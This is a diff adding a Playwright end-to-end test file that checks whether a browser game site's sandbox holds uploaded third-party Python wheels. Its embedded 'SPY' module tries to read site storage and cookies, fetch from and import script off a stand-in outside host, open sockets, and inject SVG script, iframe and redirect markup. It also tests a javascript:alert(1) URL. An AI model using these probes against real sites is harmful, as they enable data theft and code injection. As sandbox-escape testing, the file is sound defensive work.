@@ -1,0 +1,331 @@
+"""A game that someone else wrote plays like the five, behind a wall that it cannot reach through."""
+
+import json
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from pathlib import Path
+from typing import cast
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from e2e.table import BOOT, Table
+from e2e.test_axe import SCHEMES, violations
+from tools import wheels
+from tools.serve import serving
+
+# As a person drops a file on the page.
+DROP = """([name, bytes]) => {
+  const carried = new DataTransfer();
+  carried.items.add(new File([new Uint8Array(bytes)], name));
+  document.body.dispatchEvent(new DragEvent('drop', { dataTransfer: carried, bubbles: true, cancelable: true }));
+}"""
+
+# All that the site's pages have kept, text by text.
+KEPT = """async () => {
+  const kept = [];
+  for (const { name } of await indexedDB.databases()) {
+    const open = indexedDB.open(name);
+    const db = await new Promise((done) => { open.onsuccess = () => done(open.result); });
+    for (const store of db.objectStoreNames) {
+      const all = db.transaction(store).objectStore(store).getAll();
+      await new Promise((done) => { all.onsuccess = done; });
+      if (name === 'pygames') kept.push(...all.result.map((entry) => JSON.stringify(entry)));
+    }
+    db.close();
+  }
+  return [...kept, JSON.stringify({ ...localStorage }), document.cookie];
+}"""
+
+# What a hostile game tries as soon as it is imported, and what it puts into its drawings.
+SPY = """
+import js
+from pyodide.ffi import create_proxy, to_js
+from pyodide.code import run_js
+from pygames import svg
+
+TOLD = {}
+PROXIES = []
+
+
+def attempt(name, action):
+    try:
+        found = action()
+    except BaseException as trouble:
+        TOLD[name] = "kept out"
+        return
+    if not hasattr(found, "then"):
+        TOLD[name] = "reached"
+        return
+    TOLD[name] = "waiting"
+    told = [create_proxy(lambda *_, word=word: TOLD.__setitem__(name, word)) for word in ("reached", "kept out")]
+    PROXIES.extend(told)
+    found.then(*told)
+
+
+def object(**fields):
+    return to_js(fields, dict_converter=js.Object.fromEntries)
+
+
+cookies = object(credentials="include")
+blindly = object(mode="no-cors")
+socket = "new WebSocket('OTHER/socket'.replace('http', 'ws'))"
+attempt("indexedDB", lambda: js.indexedDB.open("pygames").result)
+attempt("databases", lambda: js.indexedDB.databases())
+attempt("caches", lambda: js.caches.keys())
+attempt("localStorage", lambda: js.localStorage.setItem("spy", "1"))
+attempt("document", lambda: js.document.title)
+attempt("parent", lambda: js.parent.document.title)
+attempt("top", lambda: js.top.location.href)
+attempt("files", lambda: js.navigator.storage.getDirectory())
+attempt("site with cookies", lambda: js.fetch("SITE/index.html", cookies))
+attempt("elsewhere", lambda: js.fetch("OTHER/fetched"))
+attempt("elsewhere, blind", lambda: js.fetch("OTHER/blind", blindly))
+attempt("import", lambda: run_js("import('OTHER/imported.js')"))
+attempt("socket", lambda: run_js(f"new Promise((yes, no) => Object.assign({socket}, {{onopen: yes, onerror: no}}))"))
+
+
+def request():
+    asked = js.XMLHttpRequest.new()
+    asked.open("GET", "OTHER/requested", False)
+    asked.send()
+
+
+attempt("request", request)
+js.postMessage(object(type="guest:told", told=object(game="x", title="<b>spy</b>", link="", where="")))
+js.postMessage(object(id="1", type="RAW"))
+
+EVIL = (
+    "<script>parent.postMessage('ran', '*')</script><image href='OTHER/image.png' onerror='parent.postMessage(1)'/>"
+    "<foreignObject><img src='OTHER/img.png'/><iframe src='OTHER/frame'></iframe>"
+    "<a id='lure' href='OTHER/clicked'>x</a>"
+    "<link rel='stylesheet' href='OTHER/style.css'/>"
+    "<link rel='preconnect' href='OTHER'/><form action='OTHER/form'><button id='trap'>x</button></form>"
+    "</foreignObject></svg>"
+)
+AWAY = "<meta http-equiv='refresh' content='0;url=OTHER/away'/>"
+drawing = svg.drawing
+
+
+def drawn(scene):
+    over = AWAY if "for seat" in scene.title else ""
+    return drawing(scene).removesuffix("</svg>") + EVIL.replace("</foreignObject>", over + "</foreignObject>")
+
+
+svg.drawing = drawn
+"""
+
+
+@pytest.fixture(scope="module")
+def null_game(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    """The wheel of the game in which nothing is decided, as its own project builds it."""
+    return wheels.built(wheels.NULL_GAME, tmp_path_factory.mktemp("null-game"))
+
+
+def let_in(page: Page, site: str) -> Table:
+    """Say yes to the game at the door, and wait until it can be played."""
+    assert page.locator("iframe").count() == 0, "nothing runs before the question"
+    page.locator("#yes").click()
+    return seated(page, site)
+
+
+def seated(page: Page, site: str) -> Table:
+    """The table behind the wall, when it can be played."""
+    frame = page.locator("iframe").element_handle().content_frame()
+    assert frame
+    table = Table(cast(Page, frame), site)  # a frame has all of a page that a table needs, but a keyboard
+    table.ready()
+    return table
+
+
+def say_nothing(table: Table, plies: int) -> None:
+    """Choose the null game's only choice, and see it played."""
+    table.legal.first.click()
+    expect(table.page.locator("[data-undo]")).not_to_have_attribute("aria-disabled", "true")
+    for _ in range(200):
+        if len(table.record()["moves"]) == plies:
+            return
+        table.page.wait_for_timeout(25)
+    raise AssertionError(f"there are not {plies} plies")
+
+
+def test_a_dropped_wheel_is_asked_about_and_then_plays_like_the_five(
+    page: Page, site: str, null_game: Path, tmp_path: Path
+) -> None:
+    page.goto(f"{site}/guest.html")
+    page.evaluate(DROP, ["holiday.zip", [80, 75, 3, 4]])
+    expect(page.locator("#trouble")).to_have_text("“holiday.zip” is no wheel: the name of one ends in .whl.")
+    (tmp_path / "false-1.0-py3-none-any.whl").write_text("this is no zip file")
+    page.locator("#file").set_input_files(tmp_path / "false-1.0-py3-none-any.whl")
+    page.locator("#yes").click()
+    expect(page.locator("#trouble")).to_contain_text("is not what its name says: a wheel is a zip file.")
+
+    page.evaluate(DROP, [null_game.name, list(null_game.read_bytes())])
+    expect(page.locator("#question")).to_be_visible()
+    expect(page.locator("#question")).to_contain_text("This is a program that someone else wrote.")
+    for fact in ("null-game 1.0.0", null_game.name, f"{-(-null_game.stat().st_size // 1000)} kB"):
+        expect(page.locator("#facts")).to_contain_text(fact)
+    for scheme in SCHEMES:
+        page.emulate_media(color_scheme=scheme)
+        assert violations(page) == [], scheme
+
+    table = let_in(page, site)
+    expect(table.page.locator("#game")).to_have_text("Null Game")
+    say_nothing(table, 1)
+    table.page.evaluate("window.table.play('-')")  # as it is typed
+    expect(table.page.locator("[data-board][data-over]")).to_have_count(1)
+    assert sum(table.result()["scores"]) == 1
+    table.page.locator("[data-undo]").click()
+    expect(table.page.locator("[data-over]")).to_have_count(0)
+    assert table.record()["moves"] == ["-"]
+    table.page.locator("#tab-log").click()
+    expect(table.page.locator("#panel-log")).to_contain_text("Says nothing.")
+    table.page.locator("#tab-rules").click()
+    expect(table.page.locator("#panel-rules h2").first).to_have_text("The idea")
+
+    deal = table.record()["deal"]
+    table.page.locator("[data-share]").click()
+    links = table.page.locator("input.link").evaluate_all("(fields) => fields.map((field) => field.value)")
+    assert links and all(link.startswith(f"{site}/guest.html?") for link in links)
+
+    page.goto(f"{site}/guest.html")  # it is known now, and stands where it stood
+    known = page.locator("#guests li")
+    expect(known).to_contain_text("Null Game")
+    expect(known).to_contain_text("Second to move")
+    known.get_by_role("button", name="Play Null Game").click()
+    table = seated(page, site)
+    assert (table.record()["deal"], table.record()["moves"]) == (deal, ["-"])
+
+    page.goto("about:blank")
+    page.goto(links[-1])  # sent to a friend, who has the wheel too
+    expect(page.locator("#trouble")).to_contain_text("Bring the same wheel")
+    page.locator("#file").set_input_files(null_game)
+    table = let_in(page, site)
+    assert (table.record()["deal"], table.record()["moves"]) == (deal, ["-"])
+    table.page.locator("[data-redo]").wait_for()
+    say_nothing(table, 2)
+    assert table.over
+    known_games = page.evaluate(KEPT)
+    assert not any("null-game" in text for text in known_games), "the list of games at home has only the five"
+
+
+@contextmanager
+def listening() -> Iterator[tuple[str, list[str]]]:
+    """A server somewhere else that hears everything; gives its address and the paths that were asked of it."""
+    heard: list[str] = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:  # whatever else is asked is heard too, as an error
+            heard.append(self.path)
+            self.send_response(200)
+            self.send_header("Access-Control-Allow-Origin", "*")
+            self.send_header("Content-Type", "text/javascript")
+            self.send_header("Content-Length", "0")
+            self.end_headers()
+
+        def send_error(self, *args: object, **more: object) -> None:
+            heard.append(self.requestline)
+            super().send_error(501)
+
+        def log_message(self, format: str, *args: object) -> None:  # noqa: A002  # the library's name for it
+            pass
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        threading.Thread(target=server.serve_forever, daemon=True).start()
+        yield f"http://127.0.0.1:{server.server_port}", heard
+        server.shutdown()
+
+
+def hostile(folder: Path, site: str, other: str) -> Path:
+    """The null game, and in its sentences what a spy beside it has reached."""
+    source = {path.name: path.read_text(encoding="utf-8") for path in wheels.NULL_GAME.glob("*.py")}
+    source["words.py"] = source["words.py"].replace('return "Say nothing."', "return json.dumps(spy.TOLD)")
+    source["words.py"] += "\nimport json\nfrom . import spy\n"
+    source["rules.py"] = source["rules.py"].replace('id = "null-game"', 'id = "hostile"')
+    source["spy.py"] = SPY.replace("SITE", site).replace("OTHER", other)
+    modules = {f"hostile/{name}": text for name, text in source.items()}
+    return wheels.written(folder, "hostile", {"hostile": "hostile.rules:GAME"}, modules)
+
+
+def test_a_hostile_wheel_reaches_nothing(browser: Browser, site: str, tmp_path: Path) -> None:
+    with listening() as (other, heard), browser.new_context() as context:
+        page = context.new_page()
+        own = Table(page, site)
+        own.open("granicus", seed="mine")
+        own.legal.first.click()
+        page.evaluate("localStorage.setItem('mine', '1'); document.cookie = 'mine=1'")
+        page.goto(f"{site}/guest.html")
+        before = page.evaluate(KEPT)
+        assert any("granicus" in text for text in before)
+
+        page.locator("#file").set_input_files(hostile(tmp_path, site, other))
+        table = let_in(page, site)
+        page.wait_for_timeout(1000)
+        say_nothing(table, 1)  # what it has found out by now is in its next question
+        words = table.page.locator("[data-status]").inner_text()
+        told = json.loads(words[words.index("{") :])
+        assert len(told) >= 14
+        assert {name: word for name, word in told.items() if word == "reached"} == {}, "the wall has a hole"
+
+        table.page.evaluate("document.querySelectorAll('#lure, #trap').forEach((lure) => lure.click())")
+        page.wait_for_timeout(500)
+        if page.frames[-1].locator("[data-legal]").count():
+            page.frames[-1].locator("[data-legal]").first.click()  # the end, at which it leads its frame away
+        page.wait_for_timeout(1000)
+        assert heard == [], "something went out"
+        assert page.evaluate(KEPT) == before, "something was changed"
+        assert page.url == f"{site}/guest.html"
+        assert page.locator("#title").inner_text() == "Null Game", "only its own name, and as text"
+
+
+def test_a_table_for_guests_stands_behind_a_wall_or_not_at_all(page: Page, site: str, null_game: Path) -> None:
+    page.goto(f"{site}/guest-table.html")
+    expect(page.locator("#game")).to_have_text("This table stands behind a wall only: open guest.html.")
+    page.goto(f"{site}/guest.html")
+    page.evaluate(
+        """(bytes) => {
+      const frame = document.createElement('iframe');  // without a wall
+      frame.src = 'guest-table.html';
+      document.body.append(frame);
+      const wheel = { name: 'null_game-1.0.0-py3-none-any.whl', bytes: new Uint8Array(bytes) };
+      setInterval(() => frame.contentWindow.postMessage(
+        { type: 'guest:brought', brought: { wheel, search: '', link: '', page: 'guest.html' } }, '*'), 50);
+    }""",
+        list(null_game.read_bytes()),
+    )
+    inside = page.frame_locator("iframe")
+    expect(inside.locator("#game")).to_have_text("This table stands behind a wall only: open guest.html.")
+    page.wait_for_timeout(500)
+    assert not [worker.url for worker in page.workers]
+
+
+def test_an_address_from_another_site_is_asked_about_and_plays_in_a_blog(
+    browser: Browser, site: str, null_game: Path
+) -> None:
+    with serving(null_game.parent, prefix="/wheels") as elsewhere, browser.new_context() as context:
+        wheel = f"{elsewhere}/{null_game.name}"
+        asked: list[str] = []
+        context.on("request", lambda request: asked.append(request.url))
+        page = context.new_page()
+        page.goto(elsewhere.rsplit("/", 1)[0])  # a page of another origin, whatever it says
+        page.set_content(
+            f"<h1>Sunday games</h1><iframe width=640 height=560 src='{site}/guest.html?wheel={wheel}&game=null-game'>"
+        )
+        door = page.frames[1]
+        expect(door.locator("#facts")).to_contain_text(wheel)
+        expect(door.locator("#fetched")).to_be_visible()
+        assert wheel not in asked, "it is not fetched before the question"
+        table = let_in(cast(Page, door), site)
+        assert wheel in asked
+        say_nothing(table, 1)
+        say_nothing(table, 2)
+        assert table.over
+
+        missing = f"{site}/guest.html?wheel={elsewhere}/none-1.0-py3-none-any.whl"
+        page.goto(missing)
+        page.locator("#yes").click()
+        expect(page.locator("#trouble")).to_contain_text("says 404.", timeout=BOOT)
+        page.goto(f"{site}/guest.html?wheel=javascript:alert(1)")
+        expect(page.locator("#trouble")).to_contain_text("is no address of a file")
